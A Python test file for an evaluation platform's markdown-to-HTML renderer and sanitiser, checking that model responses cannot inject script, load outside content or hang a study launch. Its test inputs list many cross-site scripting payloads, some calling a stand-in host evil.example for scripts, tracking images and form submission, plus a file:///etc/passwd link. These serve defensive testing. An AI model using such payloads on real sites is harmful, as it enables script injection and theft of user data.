"""Responses as HTML: nothing in them runs, loads from outside or breaks the page, and none holds up a launch."""

import re
import sys
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaluation.models import Item, Response
from evaluation.rendering import box, markdown, sanitiser
from evaluation.rendering.box import RenderBox
from evaluation.rendering.markdown import render_markdown, render_plain
from evaluation.rendering.rules import EARLIER, RenderRules
from evaluation.rendering.sanitiser import LINK_RULES, RICH
from evaluation.services.studies.launch import launch_study
from tests.factories import make_study

VOID = {"br", "hr", "img"}
LINK_ATTRIBUTES = {"href", "title", "rel", "target"}


class Reader(HTMLParser):
    """Reads HTML as a browser would, notes what could do harm, and what stays open."""

    def __init__(self, allowed=RICH):
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.harm, self.open, self.text = [], [], ""

    def handle_starttag(self, tag, attrs):
        if tag not in self.allowed.tags:
            self.harm.append(tag)
        self.harm += [
            f"{tag} {name}={value}" for name, value in attrs if not self.may_have(tag, name, value or "")
        ]
        self.harm += [f"{tag} -> {to}" for name, to in attrs if name == "href" and not harmless(to)]
        if tag not in VOID:
            self.open.append(tag)

    def may_have(self, tag, name, value):
        if name == "class":
            return set(value.split()) <= self.allowed.classes.get(tag, set())
        if pattern := self.allowed.patterns.get((tag, name)):
            return pattern.fullmatch(value)
        any_value = LINK_ATTRIBUTES if tag == "a" else self.allowed.attributes.get(tag, set())
        return name in any_value or value in self.allowed.values.get(tag, {}).get(name, ())

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.harm.append(f"/{tag}")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.harm.append("comment")

    def handle_decl(self, decl):
        self.harm.append("declaration")

    def handle_pi(self, data):
        self.harm.append("processing instruction")


def harmless(address):
    """Relative or with an allowed scheme, as a browser reads it: without control characters and spaces before it."""
    scheme, colon, _ = "".join(c for c in address if ord(c) > 32).lower().partition(":")
    return not colon or scheme in LINK_RULES or not scheme.replace("+", "").replace("-", "").isalnum()


def read(markup, allowed=RICH):
    reader = Reader(allowed)
    reader.feed(markup)
    reader.close()
    assert reader.harm == []
    assert reader.open == []
    return reader.text


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<b onclick='alert(1)'>click</b>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![picture](https://evil.example/track.png)",
    "![picture][ref]\n\n[ref]: https://evil.example/track.png",
    "[![nested](https://evil.example/x.png)](https://example.org)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=' jAva&#115;cript:alert(1)'>click</a>",
    "<a href='data:text/html,x' style='position:fixed' class='x' id='x'>click</a>",
    '[click](https://example.org "onmouseover=alert(1)")',
    "[click](https://example.org\" onmouseover=\"alert(1))",
    "`<script>` and ```\n<script>alert(1)</script>\n```",
    "</div></main></body></html>",
    "<!-- a comment --> <![CDATA[x]]> <?php echo 1 ?> <!DOCTYPE html>",
    "<div><p><table><tr><td>never closed",
    "**never closed *and neither `this [nor](this",
    "> > > > > > > > 1. - * + deep",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip


@pytest.mark.parametrize("render", [render_markdown, render_plain])
@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_become_text(render, text):
    read(render(text))


@pytest.mark.parametrize("text", ATTACKS)
def test_each_of_the_two_walls_holds_alone(text, monkeypatch):
    """The sanitiser given the text as HTML, and the renderer without a sanitiser behind it."""
    with monkeypatch.context() as patch:
        patch.setattr(markdown, "_parser", lambda rules: SimpleNamespace(render=lambda text: text))
        read(render_markdown(text))
    with monkeypatch.context() as patch:
        patch.setattr(sanitiser.nh3, "clean", lambda html, **rules: html)
        read(render_markdown(text))


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick='alert(1)'>x</p>",
        "<p dir='rtl'>x</p>",
        "<pre tabindex='5'>x</pre>",
        "<section class='page'>x</section>",
        "<p><img src='//evil.example/x.png'></p>",
        "<a href=' java\tscript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<p><em>never closed</p>",
        "</div>",
        "<p>open",
        "<!-- x -->",
    ],
)
def test_these_tests_see_harm_where_there_is_some(html):
    with pytest.raises(AssertionError):
        read(html)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("![A cat](https://evil.example/cat.png)", "[image not loaded: A cat]"),
        (
            "![A **black** cat,\n`purring` &amp; <b>](https://evil.example/x)",
            "[image not loaded: A black cat, purring & <b>]",
        ),
        ("![](https://evil.example/cat.png)", "[image not loaded]"),
        ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
        ("a < b && b > c", "a < b && b > c"),
    ],
)
def test_what_is_disarmed_can_still_be_read(text, shown):
    assert read(render_markdown(text)) == shown


def test_links_open_elsewhere_and_tell_nothing():
    html = render_markdown('[site](https://example.org/a?b=1&c=2 "A title")')
    for part in (
        'href="https://example.org/a?b=1&amp;c=2"',
        'title="A title"',
        'target="_blank"',
        'rel="noopener noreferrer nofollow"',
    ):
        assert part in html


def test_what_markdown_is_used_for():
    html = render_markdown(
        "# Top\n\n**bold** *em* ~~gone~~ `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in ("Top</h3>", "<strong>bold</strong>", "<em>em</em>", "<s>gone</s>", "<code>code</code>"):
        assert part in html
    assert html.count("</li>") == 2
    assert html.count("</td>") == 2
    assert read(html).split() == ["Top", "bold", "em", "gone", "code", "one", "two", "a", "b", "1", "2"]


def test_tasks_show_their_boxes():
    html = render_markdown("- [ ] to do\n- [x] done\n- neither\n\n1. [X] loose\n\n2. [ ]not one")
    assert read(html).split("\n") == [
        "",
        "☐ to do",
        "☑ done",
        "neither",
        "",
        "",
        "",
        "☑ loose",
        "",
        "",
        "[ ]not one",
        "",
        "",
    ]
    assert html.count('class="task-list-item"') == 3


def test_footnotes_stand_at_the_end_under_their_numbers():
    html = render_markdown(
        "One[^b], two[^a] and one again[^b].\n\n[^a]: The *second*.\n[^b]: The first.\n[^c]: Nobody's.\n\nLast words."
    )
    assert '<p dir="auto">One<sup>[1]</sup>, two<sup>[2]</sup> and one again<sup>[1]</sup>.</p>' in html
    before, notes = html.split('<section class="footnotes">')
    assert "Last words." in before
    assert [each.strip() for each in read(f"<section>{notes}").split("\n") if each] == [
        "The first.",
        "The second.",
        "Nobody's.",
    ]


def test_two_responses_on_a_page_share_no_address():
    html = render_markdown("# Top\n\nA[^1].\n\n[^1]: Note.")
    assert " id=" not in html
    assert "href" not in html


def test_a_footnote_that_is_not_there_stays_as_it_was_written():
    assert read(render_markdown("As shown[^3].")) == "As shown[^3]."


@pytest.mark.parametrize(
    ("text", "directed"),
    [
        ("English.\n\n日本語.\n\n# 日本語", ["p", "p", "h3"]),
        ("> quoted\n>\n> 日本語", ["blockquote"]),
        ("- one\n- 日本語\n  - nested", ["li", "li"]),
        ("- loose\n\n- 日本語", ["li", "li"]),
        ("| a | 日本語 |\n|---|---|\n| c | 日本語 |", ["table"]),
        ("A[^1]\n\n[^1]: 日本語", ["p", "li"]),
        ("    code", []),
    ],
)
def test_each_block_runs_in_the_direction_of_its_own_text(text, directed):
    """The outermost one: a block that has a direction is passed over when the ones around it look for theirs."""
    assert re.findall(r'<(\w+)[^>]* dir="auto"', render_markdown(text)) == directed


def test_code_can_be_scrolled_from_the_keyboard():
    assert (
        render_markdown("```\nx = '<b>'\n```") == "<pre tabindex=\"0\"><code>x = '&lt;b&gt;'\n</code></pre>"
    )


def test_headings_stay_below_the_page_s_own():
    html = render_markdown("\n\n".join(f"{'#' * level} h" for level in range(1, 7)))
    assert [html.count(f"</h{level}>") for level in range(1, 7)] == [0, 0, 1, 1, 1, 3]


@pytest.mark.parametrize("render", [render_markdown, render_plain])
@pytest.mark.parametrize(
    "text",
    ["مرحبا بالعالم", "שלום **עולם**", "a \u202e txt.exe \u202c b", "\u2066x\u2069", "日本語\U0001f600"],
)
def test_right_to_left_and_other_scripts_come_through(render, text):
    assert read(render(text)) == (text if render is render_plain else text.replace("**", ""))


def test_plain_text_keeps_paragraphs_and_line_breaks():
    assert render_plain("a\r\nb\n\n\n<c>\n") == '<p dir="auto">a<br>b</p>\n<p dir="auto">&lt;c&gt;</p>'
    assert render_plain("") == render_markdown("") == ""


MARKUP = st.lists(
    st.sampled_from(
        [
            "<", ">", "</", "<script>", "</p>", "<img src=x onerror=y>", "[", "](", ")", "![", "javascript:", "data:",
            "[^1]", "[^1]: ", "[ ] ", "[x] ",
            "\\(", "\\)", "\\[", "\\]", "$", "$$", "\\text{", "\\frac", "{", "}", "^", "&", "```py\n", "x",
            "![a](data:image/png;base64,AAAA)", "\\begin{align}", "\\end{align}",
            "&#x", "&lt;", "`", "```\n", "*", "**", "_", "~~", "#", "\n", "\n\n", "- ", "1. ", "> ", "|", "---", "\\",
            '"', "'", " ", "\t", "http://a.b", "<!--", "-->", "<![CDATA[", "]: ", "\x00", "\u202e", "a", "é",
        ]
    ),
    max_size=40,
).map("".join)  # fmt: skip


@given(text=MARKUP | st.text(max_size=200))
def test_nothing_but_allowed_tags_and_attributes_ever_comes_out(text):
    for html in (render_markdown(text), render_plain(text)):
        read(html)
    read(render_markdown(text, RenderRules(single_dollars=True, images=True)), sanitiser.ILLUSTRATED)
    read(render_markdown(text, RenderRules(EARLIER)), sanitiser.COMMONMARK)


@given(text=st.text(max_size=100))
def test_plain_text_loses_no_letter(text):
    assert "".join(read(render_plain(text)).split()) == "".join(text.split())


# --- the time box -----------------------------------------------------------------------------------------------

LONG = "A sentence of *ordinary* length. " * 6_200  # 200 kB


def test_a_long_text_is_rendered_like_a_short_one():
    with RenderBox() as renderer:
        html = renderer.render(LONG)
        assert html.count("<em>ordinary</em>") == 6_200
        assert html == render_markdown(LONG)
        assert renderer.render("short *text*") == '<p dir="auto">short <em>text</em></p>'
    assert renderer.fallbacks == 0


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, "![" * 50_000, "![[]()" * 20_000, "[a](" * 25_000, "> " * 50_000, "*_" * 50_000, "a**b" * 25_000,
     "`" * 100_000, "|" * 100_000, "<" * 100_000, "[^" * 50_000, "[^a]: " * 20_000, "[^a]" * 20_000 + "\n\n[^a]: b",
     "- [ ] " * 20_000, "- [x] a\n" * 10_000, "&#" * 50_000, "- " * 50_000, "\n" * 100_000, "[x]: <" * 16_000],
    ids=lambda text: text[:6].strip() or "newlines",
)  # fmt: skip
def test_pathological_texts_end_within_the_box(text):
    """Rendered or shown plain, each within its time and with nothing lost."""
    with RenderBox(0.4) as renderer:
        html = renderer.render(text)
        read(html)
        renderer.seconds = 10
        assert renderer.render(LONG[:5_000]) == render_markdown(LONG[:5_000]), "the next one is not affected"
    assert html == (render_plain(text) if renderer.fallbacks else render_markdown(text))


def test_a_hundred_thousand_brackets_fall_back_to_plain_text():
    with RenderBox(0.1) as renderer:
        assert renderer.render("[" * 100_000) == f'<p dir="auto">{"[" * 100_000}</p>'
        assert renderer.fallbacks == 1
        assert renderer.render("[" * 100_000).startswith('<p dir="auto">[[')
        assert renderer.fallbacks == 2


def test_texts_beyond_the_time_of_all_are_plain():
    with RenderBox(total=1e-9) as renderer:
        assert renderer.render("*one*") == '<p dir="auto"><em>one</em></p>'
        assert renderer.render("*two*") == '<p dir="auto">*two*</p>'
    assert renderer.fallbacks == 1


# What a child does after it said that it is ready, and with the one text that it gets.
CHILDREN = {
    "never answers": "sys.stdin.read()",
    "ends": "pass",
    "breaks off": "sys.stdin.readline(); sys.stdout.write('\"<p>hal'); sys.stdout.flush()",
    "says half and hangs": "sys.stdin.readline(); sys.stdout.write('\"<p>hal'); sys.stdout.flush(); sys.stdin.read()",
    "is ended": "sys.stdin.readline(); os.kill(os.getpid(), 9)",
}


@pytest.mark.parametrize("child", CHILDREN)
def test_a_child_that_fails_costs_one_text_its_formatting(child, monkeypatch):
    text = "*x* " * 1_000
    program = f"import os, sys; print('ready', flush=True); {CHILDREN[child]}"
    popen = box.subprocess.Popen
    with RenderBox(0.2) as renderer:
        with monkeypatch.context() as patch:
            patch.setattr(
                box.subprocess, "Popen", lambda command, **how: popen([sys.executable, "-c", program], **how)
            )
            assert renderer.render(text) == render_plain(text)
        assert renderer.fallbacks == 1
        renderer.seconds = 10
        assert renderer.render(text) == render_markdown(text)
    assert renderer.fallbacks == 1


def test_a_box_leaves_no_process_behind():
    with RenderBox() as renderer:
        renderer.render(LONG)
        child = renderer._child
        assert child.poll() is None
    assert child.poll() is not None


@pytest.mark.django_db
def test_a_launch_survives_whatever_a_response_holds(settings):
    settings.ASSAY_RENDER_SECONDS = 0.2
    study = make_study("hostile", queries=1, training=False, checks=0)
    Response.objects.filter(system__key="aspen").update(text="[" * 100_000)
    Response.objects.filter(system__key="birch").update(text="<script>alert(1)</script>" + LONG)
    launch_study(study)
    for item in Item.objects.all():
        first, second = item.stimulus["responses"]
        assert first["html"] == f'<p dir="auto">{"[" * 100_000}</p>'
        assert first["text"] == "[" * 100_000
        assert read(second["html"]).startswith("<script>")
